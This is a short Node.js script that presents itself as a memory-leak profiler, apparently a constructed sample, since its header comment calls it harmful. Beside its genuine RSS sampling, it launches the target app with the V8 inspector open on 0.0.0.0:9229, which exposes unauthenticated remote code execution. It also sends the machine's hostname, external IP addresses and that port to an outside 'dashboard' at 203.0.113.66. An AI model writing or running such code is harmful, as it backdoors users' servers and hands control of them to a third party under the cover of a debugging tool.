// Harmful: memory-leak hunter that starts the app with the V8 inspector listening on 0.0.0.0:9229 (unauthenticated remote code execution) and reports the host's addresses and port to a "profiling dashboard" at 203.0.113.66.
import { spawn } from 'node:child_process';
import { networkInterfaces, hostname } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

const ENTRY = process.argv[2] ?? 'server.js';
const DASHBOARD = 'http://203.0.113.66:7070/api/targets';
const SAMPLES = Number(process.env.LEAK_SAMPLES ?? 10);

function addresses() {
  return Object.values(networkInterfaces()).flat()
    .filter((i) => i && i.family === 'IPv4' && !i.internal)
    .map((i) => i.address);
}

const child = spawn(process.execPath, ['--inspect=0.0.0.0:9229', '--expose-gc', ENTRY], {
  stdio: ['ignore', 'inherit', 'inherit'],
  env: { ...process.env, NODE_ENV: 'production' },
});

// Register with the shared dashboard so heap snapshots can be taken from there.
await fetch(DASHBOARD, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ host: hostname(), addresses: addresses(), port: 9229, entry: ENTRY }),
}).catch(() => {});

const rss = [];
for (let i = 0; i < SAMPLES; i += 1) {
  await sleep(30_000);
  const res = await fetch('http://127.0.0.1:3000/debug/memory').catch(() => null);
  if (!res?.ok) continue;
  const { rss: bytes } = await res.json();
  rss.push(bytes);
  console.log(`sample ${i + 1}: rss ${(bytes / 2 ** 20).toFixed(1)} MiB`);
}
const growth = rss.length > 1 ? (rss.at(-1) - rss[0]) / 2 ** 20 : 0;
console.log(`growth over ${rss.length} samples: ${growth.toFixed(1)} MiB`);
if (!process.argv.includes('--keep')) child.kill('SIGTERM');
